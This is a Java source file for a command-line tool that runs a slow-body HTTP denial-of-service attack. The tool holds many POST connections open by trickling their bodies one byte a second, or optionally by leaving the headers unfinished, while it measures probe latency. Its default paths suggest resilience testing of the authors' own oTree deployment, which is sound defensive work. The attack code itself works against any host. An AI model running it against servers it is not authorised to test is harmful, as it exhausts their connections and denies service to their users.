package org.arborlab.deploy;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.TimeUnit;

/**
 * A slow-body attack: many connections that send a POST's headers at once, announce a body with Content-Length,
 * and then send that body one byte a second (one thread, non-blocking sockets). Records, per connection, when the
 * server closed it or answered (and with what status). {@link #probe} measures ordinary requests meanwhile.
 *
 * <p>Also a command-line tool for measurements: {@code SlowSenders host port senders seconds [path...]}.
 */
final class SlowSenders implements AutoCloseable {
    private static final int BODY_BYTES = 4096;

    /** What became of one slow connection. */
    static final class Sender {
        final String path;
        final long opened;
        volatile long endedNanos;
        volatile String answer = "";
        volatile int sent;

        Sender(String path, long opened) {
            this.path = path;
            this.opened = opened;
        }

        boolean ended() {
            return endedNanos != 0;
        }

        /** Seconds from the connection's opening to its end (closed or answered). */
        double seconds() {
            return (endedNanos - opened) / 1e9;
        }

        int status() {
            String[] words = answer.split(" ", 3);
            return answer.startsWith("HTTP/") && words.length > 1 ? Integer.parseInt(words[1]) : 0;
        }
    }

    private final Selector selector;
    private final List<Sender> senders = Collections.synchronizedList(new ArrayList<>());
    private final Thread pump;
    private volatile boolean running = true;

    private SlowSenders(Selector selector) {
        this.selector = selector;
        this.pump = new Thread(this::pump, "slow-senders");
        this.pump.setDaemon(true);
    }

    /** Opens {@code count} connections, spread over {@code paths}, each with its headers sent. */
    static SlowSenders start(String host, int port, int count, List<String> paths) throws IOException {
        return start(host, port, count, paths, false);
    }

    /** As above; with {@code slowHeaders}, the headers themselves come one byte a second (a header that never ends). */
    static SlowSenders start(String host, int port, int count, List<String> paths, boolean slowHeaders)
            throws IOException {
        SlowSenders attack = new SlowSenders(Selector.open());
        for (int i = 0; i < count; i++) {
            String path = paths.get(i % paths.size());
            SocketChannel channel = SocketChannel.open(new InetSocketAddress(host, port));
            channel.configureBlocking(false);
            String head = "POST " + path + " HTTP/1.1\r\nHost: " + host + ":" + port
                    + "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: " + BODY_BYTES
                    + (slowHeaders ? "X-Slow: " : "\r\n\r\n");
            channel.write(ByteBuffer.wrap(head.getBytes(StandardCharsets.US_ASCII)));
            Sender sender = new Sender(path, System.nanoTime());
            attack.senders.add(sender);
            channel.register(attack.selector, SelectionKey.OP_READ, sender);
        }
        attack.pump.start();
        return attack;
    }

    /** Every second one more byte of each body; reads whatever the server says and notes closed connections. */
    private void pump() {
        ByteBuffer in = ByteBuffer.allocate(4096);
        long nextByte = System.nanoTime();
        try {
            while (running) {
                selector.select(100);
                for (SelectionKey key : selector.selectedKeys()) {
                    Sender sender = (Sender) key.attachment();
                    SocketChannel channel = (SocketChannel) key.channel();
                    in.clear();
                    int n;
                    try {
                        n = channel.read(in);
                    } catch (IOException e) {
                        n = -1; // reset by the server
                    }
                    if (n > 0 && sender.answer.isEmpty()) {
                        String text = new String(in.array(), 0, in.position(), StandardCharsets.ISO_8859_1);
                        sender.answer = text.lines().findFirst().orElse("");
                        sender.endedNanos = System.nanoTime();
                    }
                    if (n < 0) {
                        if (!sender.ended()) {
                            sender.endedNanos = System.nanoTime();
                        }
                        key.cancel();
                        channel.close();
                    }
                }
                selector.selectedKeys().clear();
                if (System.nanoTime() >= nextByte) {
                    nextByte += TimeUnit.SECONDS.toNanos(1);
                    for (SelectionKey key : selector.keys()) {
                        Sender sender = (Sender) key.attachment();
                        if (key.isValid() && !sender.ended() && sender.sent < BODY_BYTES) {
                            try {
                                ((SocketChannel) key.channel()).write(ByteBuffer.wrap(new byte[] {'a'}));
                                sender.sent++;
                            } catch (IOException e) {
                                sender.endedNanos = System.nanoTime();
                                key.cancel();
                                key.channel().close();
                            }
                        }
                    }
                }
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    List<Sender> senders() {
        synchronized (senders) {
            return new ArrayList<>(senders);
        }
    }

    long open() {
        return senders().stream().filter(s -> !s.ended()).count();
    }

    @Override
    public void close() throws IOException {
        running = false;
        try {
            pump.join(2000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        for (SelectionKey key : selector.keys()) {
            key.channel().close();
        }
        selector.close();
    }

    /**
     * One ordinary request over a fresh connection: its status line and how long the whole answer took (ms), or
     * "timeout" after {@code timeoutMillis}.
     */
    static Probe probe(String host, int port, String method, String path, String extraHeaders, String body,
            int timeoutMillis) {
        long begin = System.nanoTime();
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), timeoutMillis);
            socket.setSoTimeout(timeoutMillis);
            byte[] content = body == null ? new byte[0] : body.getBytes(StandardCharsets.UTF_8);
            OutputStream out = socket.getOutputStream();
            byte[] head = (method + " " + path + " HTTP/1.1\r\nHost: " + host + ":" + port + "\r\nConnection: close\r\n"
                    + extraHeaders + (body == null ? "" : "Content-Length: " + content.length + "\r\n") + "\r\n")
                    .getBytes(StandardCharsets.UTF_8);
            byte[] request = java.util.Arrays.copyOf(head, head.length + content.length);
            System.arraycopy(content, 0, request, head.length, content.length);
            out.write(request); // headers and body in one write: the body arrives with its headers
            out.flush();
            InputStream in = socket.getInputStream();
            byte[] all = in.readAllBytes();
            String text = new String(all, StandardCharsets.UTF_8);
            return new Probe(path, text.lines().findFirst().orElse(""), (System.nanoTime() - begin) / 1_000_000,
                    text);
        } catch (SocketTimeoutException e) {
            return new Probe(path, "timeout", (System.nanoTime() - begin) / 1_000_000, "");
        } catch (IOException e) {
            return new Probe(path, "error " + e, (System.nanoTime() - begin) / 1_000_000, "");
        }
    }

    record Probe(String path, String status, long millis, String text) {
        int code() {
            String[] words = status.split(" ", 3);
            return status.startsWith("HTTP/") && words.length > 1 ? Integer.parseInt(words[1]) : 0;
        }
    }

    /** p50, p95 and max of the values (ms), as text. */
    static String percentiles(List<Long> values) {
        if (values.isEmpty()) {
            return "none";
        }
        List<Long> sorted = new ArrayList<>(values);
        Collections.sort(sorted);
        return "p50 " + sorted.get(sorted.size() / 2) + " ms, p95 "
                + sorted.get((int) Math.ceil(sorted.size() * 0.95) - 1) + " ms, max " + sorted.get(sorted.size() - 1)
                + " ms (" + sorted.size() + " requests)";
    }

    /** Measures: {@code host port senders seconds [path...]} (paths default to a participant page and /login). */
    public static void main(String[] args) throws Exception {
        String host = args[0];
        int port = Integer.parseInt(args[1]);
        int count = Integer.parseInt(args[2]);
        int seconds = Integer.parseInt(args[3]);
        boolean slowHeaders = Boolean.getBoolean("slowHeaders");
        List<String> paths = args.length > 4 ? List.of(args).subList(4, args.length)
                : List.of("/p/slowbody/app/Page/1", "/login");
        List<Long> before = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            before.add(probe(host, port, "GET", "/health/ready", "", null, 5000).millis());
        }
        System.out.println("before: " + percentiles(before));
        try (SlowSenders attack = start(host, port, count, paths, slowHeaders)) {
            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
            List<Long> during = new ArrayList<>();
            int timeouts = 0;
            String[] probes = {"/health/ready", "/login", "/api/otree_version"};
            int i = 0;
            while (System.nanoTime() < end) {
                Probe probe = probe(host, port, "GET", probes[i++ % probes.length], "", null, 5000);
                during.add(probe.millis());
                if (probe.code() == 0) {
                    timeouts++;
                }
                System.out.println(String.format("t=%5.1f s  %-20s %-30s %5d ms  open senders %d",
                        (System.nanoTime() - (end - TimeUnit.SECONDS.toNanos(seconds))) / 1e9, probe.path(),
                        probe.status(), probe.millis(), attack.open()));
                Thread.sleep(250);
            }
            System.out.println("during: " + percentiles(during) + ", without answer: " + timeouts);
            List<Sender> ended = attack.senders().stream().filter(Sender::ended).toList();
            System.out.println("senders ended: " + ended.size() + " of " + count + "; answers "
                    + ended.stream().collect(java.util.stream.Collectors.groupingBy(s -> s.answer,
                            java.util.stream.Collectors.counting()))
                    + "; seconds to end " + percentiles(ended.stream().map(s -> (long) (s.seconds() * 1000)).toList()));
        }
    }
}
